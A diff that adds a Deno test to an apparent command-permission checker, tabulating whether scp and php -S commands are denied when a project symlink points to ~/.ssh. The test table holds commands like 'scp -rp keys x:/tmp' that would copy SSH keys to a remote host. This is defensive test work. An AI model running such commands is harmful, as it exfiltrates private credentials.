@@ -65,3 +65,15 @@ Deno.test("ssh: remote operands of scp, sftp and rsync are no local paths", asyn
   const v = await bash(denyList, adversarialCtx, "scp ./a:b host:c");
   assert.ok(v.stages[0].targets.some((t) => t.path === "/home/user/project/a:b"));
 });
+
+Deno.test("scp -r and php -S read a tree with its symlinks followed", async () => {
+  // [command, read-only, deny-list]: the project holds `keys -> ~/.ssh`
+  await checkTable([
+    ["scp -r . x:/tmp", "deny", "deny"],
+    ["scp -rp keys x:/tmp", "deny", "deny"],
+    ["php -S 0:8000", "deny", "deny"],
+    ["scp -r src x:/tmp", "deny", "allow"],
+    ["scp README.md x:/tmp", "deny", "allow"],
+    ["php -S 0:8000 -t src", "deny", "allow"],
+  ]);
+});
